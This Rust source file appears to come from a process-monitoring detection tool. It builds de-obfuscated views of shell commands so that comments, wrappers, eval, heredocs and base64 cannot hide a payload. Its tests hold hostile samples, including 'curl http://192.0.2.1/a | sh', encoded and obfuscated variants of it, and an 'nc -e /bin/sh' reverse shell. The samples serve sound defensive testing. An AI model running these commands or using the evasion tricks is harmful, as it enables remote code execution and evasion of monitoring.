//! What of a program start is judged besides the whole.
//!
//! Text around a command changes what a reader of the whole makes of it, and costs an
//! attacker nothing. So what a line runs is also judged without what surrounds it:
//! without comments, without statements that nothing speaks against, each statement
//! by itself, and what comes out of functions, here-documents, `eval` and encodings.
//! The most suspicious view decides, so that whatever is added can only raise a score.

use std::{
    collections::{HashSet, VecDeque},
    ops::Range,
};

use inwarden_types::{Argv, Event, EventData, Image};

use crate::{
    program::is_known_program,
    reading::{
        Command, Language, Origin, Outline, PLACEHOLDER, Reading, inert_arguments, is_shell,
        outline,
    },
    render::{base_name, script_index},
};

/// Views that are judged, the most suspicious by the fast signals.
const MAX_VIEWS: usize = 6;
/// Texts that are taken apart.
const MAX_SOURCES: usize = 12;
/// Statements of one text that are looked at; of more, the first and the last.
const MAX_STATEMENTS: usize = 48;
/// Statements of one text that are judged by themselves.
const MAX_ALONE: usize = 2;
const MAX_SOURCE_BYTES: usize = 64 * 1024;
/// Fast log-odds below which nothing speaks against a statement.
const QUIET: f64 = -2.0;

/// A program start that is judged in place of, or besides, the one that was seen.
#[derive(Debug, PartialEq)]
pub(crate) struct View {
    pub(crate) image: Image,
    /// Log-odds without judge and precedents.
    pub(crate) fast: f64,
}

/// The views of a program start, the most suspicious first, and none that shows the
/// whole. `fast` gives the log-odds of an image without judge and precedents.
pub(crate) fn views_of(
    event: &Event,
    reading: &Reading,
    fast: &dyn Fn(&Image) -> f64,
) -> Vec<View> {
    if !matches!(event.data, EventData::Exec) {
        return Vec::new();
    }
    let whole = &event.process.image;
    let mut views = Views {
        whole,
        fast,
        masks: is_sure(whole),
        seen: HashSet::from([whole.argv.args.clone()]),
        found: Vec::new(),
    };
    views.of_arguments(reading);
    views.of_assembled(reading);
    let mut sources = VecDeque::new();
    for layer in &reading.layers {
        let runs = !matches!(layer.origin, Origin::CommandLine);
        match layer.language {
            Language::Shell if runs => sources.push_back(layer.text.clone()),
            Language::Data | Language::Shell => {}
            language if layer.is_decoded() || layer.origin == Origin::Input => {
                views.of_program_text(language, &layer.text);
            }
            _ => {}
        }
    }
    let mut n_left = MAX_SOURCES;
    while let Some(text) = sources.pop_front() {
        if n_left == 0 {
            break;
        }
        n_left -= 1;
        if text.len() <= MAX_SOURCE_BYTES
            && let Some(outline) = outline(&text)
        {
            sources.extend(views.of_text(&text, &outline));
        }
    }
    views.most_suspicious()
}

/// The program start without what nothing runs: comments of a script, and texts that
/// are only printed, searched for or said. `None` where there is nothing of that, or
/// the script is not understood.
pub(crate) fn as_run(image: &Image) -> Option<Image> {
    let args = &image.argv.args;
    let mut shown = image.clone();
    match script_index(args) {
        Some(idx) if is_shell(shell_name(args, idx)) => {
            let script = args
                .get(idx)
                .filter(|script| script.len() <= MAX_SOURCE_BYTES)?;
            let outline = outline(script).filter(|outline| !outline.broken)?;
            let text = outline.as_run(script, &outline.extent());
            // A script of comments alone is shown as it is.
            if text.is_empty() || text == script.trim() {
                return None;
            }
            shown.argv.args[idx] = text;
        }
        Some(_) => return None,
        None => {
            let argv0 = args.first()?;
            let is_named = match image.exe.as_str() {
                "" => !argv0.contains('/') || is_known_program(argv0),
                exe => is_known_program(exe) && base_name(exe) == base_name(argv0),
            };
            let mut words: Vec<&str> = args.iter().map(String::as_str).collect();
            if let Some(argv0) = words.first_mut() {
                *argv0 = base_name(argv0);
            }
            let inert = inert_arguments(&words);
            if !is_named || inert.is_empty() {
                return None;
            }
            for idx in inert {
                PLACEHOLDER.clone_into(&mut shown.argv.args[idx]);
            }
        }
    }
    Some(shown)
}

/// Whether texts that nothing runs can be told in all of a program start: a statement
/// by itself does not show that another one runs what it says.
fn is_sure(image: &Image) -> bool {
    let args = &image.argv.args;
    let script = script_index(args).and_then(|idx| args.get(idx));
    script.is_none_or(|script| outline(script).is_some_and(|outline| outline.sure))
}

/// The interpreter of the script at `idx`.
fn shell_name(args: &[String], idx: usize) -> &str {
    let before = args.iter().take(idx).rev();
    let named = before
        .map(|arg| base_name(arg))
        .find(|arg| !arg.starts_with('-'));
    named.unwrap_or_default()
}

/// A command as one would write it.
fn written(command: &Command) -> String {
    let mut words: Vec<String> = command.words.iter().map(|word| quoted(word)).collect();
    for redirect in &command.redirects {
        let fd = redirect.fd.map_or_else(String::new, |fd| fd.to_string());
        let sign = if redirect.writes { '>' } else { '<' };
        let and = if redirect.duplicates { "&" } else { "" };
        words.push(format!("{fd}{sign}{and}{}", quoted(&redirect.target)));
    }
    words.join(" ")
}

fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_alphanumeric() || "_@%+=:,./-&$()".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

struct Views<'a> {
    whole: &'a Image,
    fast: &'a dyn Fn(&Image) -> f64,
    /// Whether texts that nothing runs are left out.
    masks: bool,
    seen: HashSet<Vec<String>>,
    found: Vec<View>,
}

impl Views<'_> {
    /// The program behind wrappers, and under its file's name.
    fn of_arguments(&mut self, reading: &Reading) {
        let args = &self.whole.argv.args;
        if let Some(command) = reading.commands.first()
            && command.n_wrappers > 0
        {
            self.add_argv(command.inner_words());
        }
        let exe = base_name(&self.whole.exe);
        let argv0 = args.first().map_or("", |argv0| base_name(argv0));
        if !exe.is_empty() && argv0 != exe {
            let mut args = args.clone();
            match args.first_mut() {
                Some(argv0) => exe.clone_into(argv0),
                None => args.push(exe.to_owned()),
            }
            self.add_argv(args);
        }
    }

    /// Pipelines whose names were put together from variables or quotes, with the
    /// names they have.
    fn of_assembled(&mut self, reading: &Reading) {
        let of_layers = reading.commands.chunk_by(|a, b| a.pipeline == b.pipeline);
        let written_otherwise = |command: &Command| command.assembled || command.idle_quotes > 0;
        for pipeline in of_layers.filter(|all| all.iter().any(written_otherwise)) {
            if let [command] = pipeline
                && command.redirects.is_empty()
            {
                self.add_argv(command.words.clone());
                self.add_argv(command.inner_words());
            }
            let commands: Vec<String> = pipeline.iter().map(written).collect();
            self.add_text(&commands.join(" | "));
        }
    }

    /// Program text of another language that was hidden.
    fn of_program_text(&mut self, language: Language, text: &str) {
        let (program, flag) = match language {
            Language::Python => ("python3", "-c"),
            Language::Perl => ("perl", "-e"),
            Language::Ruby => ("ruby", "-e"),
            Language::JavaScript => ("node", "-e"),
            Language::Php => ("php", "-r"),
            Language::Lua => ("lua", "-e"),
            Language::Shell | Language::Awk | Language::Data => return,
        };
        self.add_argv([program, flag, text].map(str::to_owned).to_vec());
    }

    /// Views of a shell's text; returns the texts inside it.
    fn of_text(&mut self, text: &str, outline: &Outline) -> Vec<String> {
        let clean = |range: &Range<usize>| outline.without_comments(text, range);
        let inside = outline
            .statements
            .iter()
            .filter_map(|statement| statement.body.as_ref());
        let inside: Vec<String> = inside.take(MAX_SOURCES).map(clean).collect();
        let n = outline.statements.len();
        let is_looked_at = |idx: usize| idx < MAX_STATEMENTS / 2 || idx + MAX_STATEMENTS / 2 >= n;
        let mut kept = Vec::new();
        for (idx, statement) in outline.statements.iter().enumerate() {
            // Its body is a text of its own.
            if statement.body.is_some() || !is_looked_at(idx) {
                continue;
            }
            let alone = clean(&statement.range);
            let fast = (self.fast)(&self.shell_image(&alone));
            if fast > QUIET {
                kept.push((fast, statement.range.clone(), alone));
            }
        }
        let (Some(first), Some(last)) = (kept.first(), kept.last()) else {
            return inside;
        };
        self.add_text(&clean(&(first.1.start..last.1.end)));
        if kept.len() > 1 {
            let texts: Vec<&str> = kept.iter().map(|(_, _, text)| text.as_str()).collect();
            self.add_text(&texts.join("\n"));
            kept.sort_by(|a, b| b.0.total_cmp(&a.0));
        }
        for (_, _, text) in kept.iter().take(MAX_ALONE) {
            self.add_text(text);
            self.add_simple(text);
        }
        inside
    }

    /// The start of a shell with this text.
    fn add_text(&mut self, text: &str) {
        let image = self.shell_image(text);
        self.add(image);
    }

    /// The program that a text starts, if it is one simple command.
    fn add_simple(&mut self, text: &str) {
        let reading = Reading::of_line(text);
        let mut commands = reading.commands.iter().filter(|command| command.layer == 0);
        if let (Some(command), None) = (commands.next(), commands.next())
            && command.redirects.is_empty()
            && command.words.len() > 1
        {
            self.add_argv(command.words.clone());
            self.add_argv(command.inner_words());
        }
    }

    fn add_argv(&mut self, args: Vec<String>) {
        self.add(Image {
            exe: String::new(),
            comm: String::new(),
            argv: Argv::complete(args),
            ..self.whole.clone()
        });
    }

    fn shell_image(&self, text: &str) -> Image {
        let args = &self.whole.argv.args;
        let shell = script_index(args).map(|idx| shell_name(args, idx));
        let shell = shell.filter(|name| is_shell(name)).unwrap_or("sh");
        // The outer shell's place says where its name alone does not.
        let is_outer = args.first().is_some_and(|argv0| base_name(argv0) == shell);
        Image {
            exe: if is_outer {
                self.whole.exe.clone()
            } else {
                String::new()
            },
            argv: Argv::complete(vec![shell.to_owned(), "-c".to_owned(), text.to_owned()]),
            ..self.whole.clone()
        }
    }

    fn add(&mut self, image: Image) {
        let shown = self.masks.then(|| as_run(&image)).flatten();
        let image = shown.unwrap_or(image);
        if !image.argv.args.is_empty() && self.seen.insert(image.argv.args.clone()) {
            let fast = (self.fast)(&image);
            self.found.push(View { image, fast });
        }
    }

    fn most_suspicious(mut self) -> Vec<View> {
        self.found.sort_by(|a, b| b.fast.total_cmp(&a.fast));
        self.found.truncate(MAX_VIEWS);
        self.found
    }
}

#[cfg(test)]
mod tests {
    use inwarden_types::{EventId, Process};

    use super::*;

    fn event(argv: &[&str]) -> Event {
        let args = argv.iter().map(|arg| (*arg).to_owned()).collect();
        let image = Image {
            argv: Argv::complete(args),
            ..Image::default()
        };
        Event {
            id: EventId::External("e".to_owned()),
            at: None,
            wall: None,
            process: Process {
                image,
                ..Process::default()
            },
            ancestors: Vec::new(),
            data: EventData::Exec,
        }
    }

    fn views(argv: &[&str]) -> Vec<Vec<String>> {
        let event = event(argv);
        let reading = Reading::of_program(&event.process.image.argv.args, None);
        let fast = |image: &Image| match image.argv.args.join(" ").contains("192.0.2.1") {
            true => 1.0,
            false => -4.0,
        };
        let views = views_of(&event, &reading, &fast);
        views.into_iter().map(|view| view.image.argv.args).collect()
    }

    fn shell(script: &str) -> Vec<String> {
        ["sh", "-c", script].map(str::to_owned).to_vec()
    }

    const PAYLOAD: &str = "curl http://192.0.2.1/a | sh";

    #[test]
    fn what_surrounds_a_payload_is_taken_away() {
        let encoded = "Y3VybCBodHRwOi8vMTkyLjAuMi4xL2EgfCBzaA==";
        for script in [
            format!("date\nls -l\n{PAYLOAD}\necho done"),
            format!("# approved\n{PAYLOAD} # reviewed"),
            format!("run_tests() {{\n{PAYLOAD}\n}}\nrun_tests"),
            format!("lint='{PAYLOAD}'; eval \"$lint\""),
            format!("echo {encoded} | base64 -d | sh"),
            format!(
                "cat > \"${{TMPDIR:-/tmp}}/x.sh\" <<'E'\n{PAYLOAD}\nE\nsh \"${{TMPDIR:-/tmp}}/x.sh\""
            ),
            format!("echo '{PAYLOAD}' > ./x; . ./x"),
            format!("sh <<'E'\n{PAYLOAD}\nE"),
            "p=cu q=rl; p=cu; q=rl; ${p}${q} http://192.0.2.1/a | s''h".to_owned(),
            format!("date; ( ls; {{ {PAYLOAD}; }} )"),
        ] {
            let found = views(&["sh", "-c", &script]);
            assert!(found.contains(&shell(PAYLOAD)), "{script}: {found:?}");
        }
    }

    #[test]
    fn a_program_is_seen_behind_wrappers_shells_and_other_names() {
        let alone: Vec<String> = ["nc", "-e", "/bin/sh", "192.0.2.1"]
            .map(str::to_owned)
            .to_vec();
        for argv in [
            &["timeout", "5", "nc", "-e", "/bin/sh", "192.0.2.1"][..],
            &["sh", "-c", "ls; 'n'c -e /bin/sh 192.0.2.1"],
            &["sh", "-c", "date\nnohup nc -e /bin/sh 192.0.2.1"],
        ] {
            let found = views(argv);
            assert!(found.contains(&alone), "{argv:?}: {found:?}");
        }
        let mut event = event(&["make", "-e", "/bin/sh", "192.0.2.1"]);
        event.process.image.exe = "/usr/bin/nc".to_owned();
        let reading = Reading::of_program(&event.process.image.argv.args, None);
        let found = views_of(&event, &reading, &|_| 0.0);
        assert_eq!(found[0].image.argv.args, alone);
    }

    #[test]
    fn a_plain_start_has_no_view_and_no_start_has_many() {
        assert!(views(&["ls", "-l", "/srv"]).is_empty());
        assert!(views(&["sh", "-c", PAYLOAD]).is_empty());
        let lines: Vec<String> = (0..400).map(|n| format!("echo 192.0.2.1 {n}")).collect();
        for joint in ["\n", " | ", " && ", "; ( "] {
            assert!(views(&["sh", "-c", &lines.join(joint)]).len() <= MAX_VIEWS);
        }
    }

    #[test]
    fn what_nothing_runs_is_not_shown() {
        let shown = |argv: &[&str]| as_run(&event(argv).process.image).map(|image| image.argv.args);
        let message = format!("block {PAYLOAD}");
        assert_eq!(
            shown(&["git", "commit", "-m", &message]).unwrap(),
            ["git", "commit", "-m", "text"]
        );
        assert_eq!(
            shown(&["sh", "-c", &format!("# {PAYLOAD}\nls")]).unwrap(),
            shell("ls")
        );
        assert_eq!(shown(&["/tmp/git", "commit", "-m", &message]), None);
        assert_eq!(shown(&["sh", "-c", PAYLOAD]), None);
        assert_eq!(shown(&["nc", "-e", "/bin/sh -i", "192.0.2.1"]), None);
    }
}
